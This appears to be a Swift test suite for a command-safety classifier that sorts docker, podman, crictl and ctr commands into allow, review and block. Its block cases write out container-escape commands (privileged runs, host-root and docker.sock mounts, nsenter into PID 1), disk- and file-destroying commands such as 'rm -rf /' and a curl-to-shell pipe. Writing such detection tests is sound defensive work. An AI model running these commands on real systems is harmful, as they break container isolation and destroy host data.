import Testing
@testable import ShellAST

/// docker, podman, nerdctl, compose, crictl and ctr: reads allowed, changes
/// reviewed, container escapes blocked.
@Suite struct ContainersCatalogTests {
    @Test(arguments: [
        // Reads: allow.
        VerdictCase("docker ps -a", .allow, "containers.docker.read"),
        VerdictCase("docker ps --format '{{.Names}}\\t{{.Status}}'", .allow, "containers.docker.read"),
        VerdictCase("docker logs --tail 200 web", .allow, "containers.docker.read"),
        VerdictCase("docker logs -f --since 10m api", .allow, "containers.docker.read"),
        VerdictCase("docker inspect -f '{{.State.Health.Status}}' web", .allow, "containers.docker.read"),
        VerdictCase("docker stats --no-stream", .allow, "containers.docker.read"),
        VerdictCase("docker top web", .allow, "containers.docker.read"),
        VerdictCase("docker images", .allow, "containers.docker.read"),
        VerdictCase("docker image ls --filter dangling=true", .allow, "containers.docker.read"),
        VerdictCase("docker history app:1", .allow, "containers.docker.read"),
        VerdictCase("docker port web", .allow, "containers.docker.read"),
        VerdictCase("docker diff web", .allow, "containers.docker.read"),
        VerdictCase("docker events --since 1h --until 10m", .allow, "containers.docker.read"),
        VerdictCase("docker info", .allow, "containers.docker.read"),
        VerdictCase("docker version", .allow, "containers.docker.read"),
        VerdictCase("docker system df -v", .allow, "containers.docker.read"),
        VerdictCase("docker volume ls", .allow, "containers.docker.read"),
        VerdictCase("docker network inspect bridge", .allow, "containers.docker.read"),
        VerdictCase("docker context ls", .allow, "containers.docker.read"),
        VerdictCase("docker compose ps", .allow, "containers.docker.read"),
        VerdictCase("docker compose -f prod.yml logs --tail=100 api", .allow, "containers.docker.read"),
        VerdictCase("docker compose config", .allow, "containers.docker.read"),
        VerdictCase("docker-compose ps", .allow, "containers.docker-compose.read"),
        VerdictCase("podman ps --all", .allow, "containers.docker.read"),
        VerdictCase("nerdctl -n k8s.io images", .allow, "containers.docker.read"),
        VerdictCase("crictl ps -a", .allow, "containers.crictl.read"),
        VerdictCase("crictl pods", .allow, "containers.crictl.read"),
        VerdictCase("crictl logs --tail 100 3f2a", .allow, "containers.crictl.read"),
        VerdictCase("crictl stats", .allow, "containers.crictl.read"),
        VerdictCase("ctr -n k8s.io c ls", .allow, "containers.ctr.read"),
        VerdictCase("ctr i ls", .allow, "containers.ctr.read"),
        VerdictCase("ctr t ls", .allow, "containers.ctr.read"),
        VerdictCase("docker exec web cat /etc/nginx/nginx.conf", .allow, "containers.docker.exec"),
        VerdictCase("crictl exec 3f2a ls /var/log", .allow, "containers.crictl.exec"),
        // Wrapped, quoted, path-prefixed reads.
        VerdictCase("sudo docker ps", .allow, "containers.docker.read"),
        VerdictCase("timeout 30 docker logs web", .allow, "containers.docker.read"),
        VerdictCase("\"docker\" 'ps' -a", .allow, "containers.docker.read"),
        VerdictCase("/usr/bin/docker ps", .allow, "containers.docker.read"),
        VerdictCase("sudo -u root crictl ps", .allow, "containers.crictl.read"),
        // False alarms: must stay quiet.
        VerdictCase("docker exec web ps -u root", .allow, "containers.docker.exec"),
        VerdictCase("docker logs web 2>&1 | grep -- '--privileged' | tail -50", .allow),
        VerdictCase("echo 'docker run --privileged -v /:/host alpine'", .allow),
        VerdictCase("docker ps -q | xargs docker inspect --format '{{.Name}}'", .allow, "containers.docker.read"),
        VerdictCase("docker inspect web | jq '.[0].Mounts'", .allow),

        // Changes: review.
        VerdictCase("docker restart web", .review, "containers.docker.change"),
        VerdictCase("docker compose up -d", .review, "containers.docker.change"),
        VerdictCase("docker compose restart api", .review, "containers.docker.change"),
        VerdictCase("docker stop web", .review, "containers.docker.change"),
        VerdictCase("docker kill web", .review, "containers.docker.change"),
        VerdictCase("docker kill -s HUP web", .review, "containers.docker.kill-signal"),
        VerdictCase("docker pull nginx:1.27", .review, "containers.docker.change"),
        VerdictCase("docker build -t app:2 .", .review, "containers.docker.change"),
        VerdictCase("docker run -d -p 8080:80 --name web nginx", .review, "containers.docker.change"),
        VerdictCase("docker context use prod", .review, "containers.docker.change"),
        VerdictCase("docker login -u bob registry.example.com", .review, "containers.docker.change"),
        VerdictCase("docker exec -it web bash", .review, "exec.interactive"),
        VerdictCase("docker exec -u root web id", .review, "containers.docker.exec-root"),
        VerdictCase("docker exec --privileged web ls /dev", .review, "containers.docker.exec-root"),
        VerdictCase("docker-compose up -d", .review, "containers.docker-compose.change"),
        VerdictCase("crictl pull nginx:1.27", .review, "containers.crictl.change"),
        VerdictCase("ctr i pull docker.io/library/alpine:latest", .review, "containers.ctr.change"),
        // Removal: critical, still review — `system prune -af` is a routine disk-full fix.
        VerdictCase("docker system prune -af", .review, "containers.docker.remove"),
        VerdictCase("sudo docker system prune -a --volumes -f", .review, "containers.docker.remove"),
        VerdictCase("docker image prune -af", .review, "containers.docker.remove"),
        VerdictCase("docker container prune -f", .review, "containers.docker.remove"),
        VerdictCase("docker volume prune -f", .review, "containers.docker.remove"),
        VerdictCase("docker builder prune -af", .review, "containers.docker.remove"),
        VerdictCase("docker network prune", .review, "containers.docker.remove"),
        VerdictCase("docker rm web", .review, "containers.docker.remove"),
        VerdictCase("docker rm -f web", .review, "containers.docker.remove-force"),
        VerdictCase("docker rmi app:1", .review, "containers.docker.remove"),
        VerdictCase("docker volume rm pgdata", .review, "containers.docker.remove"),
        VerdictCase("docker compose down -v", .review, "containers.docker.compose-down-volumes"),
        VerdictCase("docker-compose down --volumes", .review, "containers.docker-compose.down-volumes"),
        VerdictCase("docker stop $(docker ps -q)", .review, "containers.docker.dynamic-targets"),
        VerdictCase("docker swarm leave --force", .review, "containers.docker.remove"),
        VerdictCase("docker service rm api", .review, "containers.docker.remove"),
        VerdictCase("docker stack rm app", .review, "containers.docker.remove"),
        VerdictCase("docker plugin install vieux/sshfs", .review, "containers.docker.remove"),
        VerdictCase("crictl stop 3f2a", .review, "containers.crictl.remove"),
        VerdictCase("crictl rmp -a -f", .review, "containers.crictl.remove"),
        VerdictCase("crictl rmi --prune", .review, "containers.crictl.remove"),
        VerdictCase("ctr t kill web", .review, "containers.ctr.remove"),
        VerdictCase("ctr -n k8s.io c rm web", .review, "containers.ctr.remove"),
        VerdictCase("ctr i rm docker.io/library/nginx:latest", .review, "containers.ctr.remove"),
        VerdictCase("ctr snapshot rm snap1", .review, "containers.ctr.remove"),
        // Risky but not escapes: critical review.
        VerdictCase("docker run --net=host nginx", .review, "containers.docker.run-host-namespace"),
        VerdictCase("docker run --pid=host alpine ps", .review, "containers.docker.run-host-namespace"),
        VerdictCase("docker run --cap-add=NET_ADMIN alpine ip a", .review, "containers.docker.run-weakened-isolation"),
        VerdictCase("docker run --security-opt seccomp=unconfined alpine", .review, "containers.docker.run-weakened-isolation"),
        VerdictCase("docker run -v /:/host:ro alpine ls /host", .review, "containers.docker.run-host-exposure"),
        VerdictCase("docker run -v /etc/localtime:/etc/localtime:ro -v ./data:/data app", .review, "containers.docker.change"),
        VerdictCase("docker cp web:/app/job /etc/cron.d/job", .review, "containers.docker.cp-system"),
        VerdictCase("docker cp web:/var/log/app.log .", .review, "containers.docker.change"),
        VerdictCase("docker compose exec db psql -U app", .review, "containers.docker.compose-exec"),
        VerdictCase("docker run --entrypoint sh alpine -c id", .review, "containers.docker.entrypoint"),
        VerdictCase("docker swarm join-token worker", .review, "containers.docker.swarm-join-token"),
        VerdictCase("docker run --privileged=false alpine", .review, "containers.docker.change"),
        VerdictCase("docker run -d --net=host --pid=host -v /:/host:ro,rslave quay.io/prometheus/node-exporter --path.rootfs=/host", .review, "containers.docker.run-host-exposure"),
        VerdictCase("docker run -v $HOME/.aws:/root/.aws:ro amazon/aws-cli s3 ls", .review, "containers.docker.run-host-exposure"),
        VerdictCase("docker scout cves app:1", .review, "containers.docker.default"),
        VerdictCase("ctr run --rm docker.io/library/alpine:latest t1 sh", .review, "containers.ctr.run"),

        // Escapes and catastrophes: block.
        VerdictCase("docker run --privileged -it alpine sh", .block, "containers.docker.run-privileged"),
        VerdictCase("sudo docker run --privileged alpine", .block, "containers.docker.run-privileged"),
        VerdictCase("timeout 30 docker run --privileged alpine", .block, "containers.docker.run-privileged"),
        VerdictCase("\"docker\" 'run' '--privileged' alpine", .block, "containers.docker.run-privileged"),
        VerdictCase("/usr/bin/podman run --privileged fedora", .block, "containers.docker.run-privileged"),
        VerdictCase("docker run -v /:/host alpine chroot /host sh", .block, "containers.docker.run-host-mount"),
        VerdictCase("docker run --rm -v /var/run/docker.sock:/var/run/docker.sock docker:cli ps", .block, "containers.docker.run-host-mount"),
        VerdictCase("docker run -v /var/run/docker.sock:/var/run/docker.sock:ro alpine", .block, "containers.docker.run-host-mount"),
        VerdictCase("docker run --mount type=bind,source=/,target=/host alpine", .block, "containers.docker.run-host-mount"),
        VerdictCase("docker run --mount=type=bind,target=/h,src=/etc alpine", .block, "containers.docker.run-host-mount"),
        VerdictCase("docker run --volume=/etc:/host-etc alpine", .block, "containers.docker.run-host-mount"),
        VerdictCase("docker run -v //:/h alpine", .block, "containers.docker.run-host-mount"),
        VerdictCase("docker run -v /etc/../:/h alpine", .block, "containers.docker.run-host-mount"),
        VerdictCase("docker run -v/:/h alpine", .block, "containers.docker.run-host-mount"),
        VerdictCase("docker run -itv /root:/r alpine", .block, "containers.docker.run-host-mount"),
        VerdictCase("docker run -v /home/bob/.ssh:/k alpine", .block, "containers.docker.run-host-mount"),
        VerdictCase("docker run --privileged=false --privileged alpine", .block, "containers.docker.run-privileged"),
        VerdictCase("docker save -o /dev/sda app:1", .block, "containers.docker.save-protected"),
        VerdictCase("docker run -v /dev:/dev:ro alpine", .block, "containers.docker.run-host-mount"),
        VerdictCase("docker run --device=/dev/sda:/dev/xvda alpine", .block, "containers.docker.run-host-device"),
        VerdictCase("docker run --cap-add=SYS_ADMIN alpine", .block, "containers.docker.run-escape-capability"),
        VerdictCase("docker run --cap-add ALL alpine", .block, "containers.docker.run-escape-capability"),
        VerdictCase("podman run --cap-add=cap_sys_module fedora", .block, "containers.docker.run-escape-capability"),
        VerdictCase("docker run --security-opt systempaths=unconfined alpine", .block, "containers.docker.run-unmasked-proc"),
        VerdictCase("docker run --pid=host --cap-add=SYS_PTRACE alpine nsenter -t 1 -m sh", .block, "containers.docker.run-host-pid-ptrace"),
        VerdictCase("docker run --net=host --cap-add=NET_ADMIN alpine", .block, "containers.docker.run-host-network-admin"),
        VerdictCase("docker create --privileged nginx", .block, "containers.docker.run-privileged"),
        VerdictCase("docker service create --mount type=bind,src=/var/run/docker.sock,dst=/s img", .block, "containers.docker.run-host-mount"),
        VerdictCase("docker-compose run -v /:/host web", .block, "containers.docker-compose.run-host-mount"),
        VerdictCase("ctr run --privileged docker.io/library/alpine:latest t1", .block, "containers.ctr.run-escape"),
        VerdictCase("podman system reset -f", .block, "containers.docker.system-reset"),
        VerdictCase("docker cp web:/tmp/passwd /etc/passwd", .block, "containers.docker.cp-protected"),
        VerdictCase("docker exec web rm -rf /", .block, "files.rm.catastrophic-target"),
        // The engine finds the verb with the catalog's options, like the catalog.
        VerdictCase("docker --context prod exec web rm -rf /", .block, "files.rm.catastrophic-target"),
        VerdictCase("podman --log-level debug exec web rm -rf /", .block, "files.rm.catastrophic-target"),
        VerdictCase("crictl -r unix:///run/containerd/containerd.sock exec -it 3f2a rm -rf /", .block, "files.rm.catastrophic-target"),
    ])
    func verdicts(_ c: VerdictCase) {
        expectVerdict(c)
    }

    /// Engine gaps found while writing the family (see the report).
    @Test func composeExecCommandIsNotJudged() {
        do {
            expectVerdict(VerdictCase("docker compose exec web rm -rf /", .block))
        }
    }

    /// `run --entrypoint PROGRAM IMAGE ARGS` runs `PROGRAM ARGS`: that is the command judged.
    @Test(arguments: [
        VerdictCase("docker run --entrypoint sh alpine -c 'rm -rf /'", .block, "files.rm.catastrophic-target"),
        VerdictCase("docker run --entrypoint=/bin/bash img -c 'curl -s x | sh'", .block),
        VerdictCase("podman run --entrypoint rm img -rf /", .block, "files.rm.catastrophic-target"),
        VerdictCase("docker run --entrypoint \"$EP\" alpine", .review, "command.dynamic-name"),
        VerdictCase("docker run --entrypoint cat alpine /etc/os-release", .review, "containers.docker.entrypoint"),
    ])
    func entrypointCommandIsJudged(_ c: VerdictCase) {
        expectVerdict(c)
    }
}
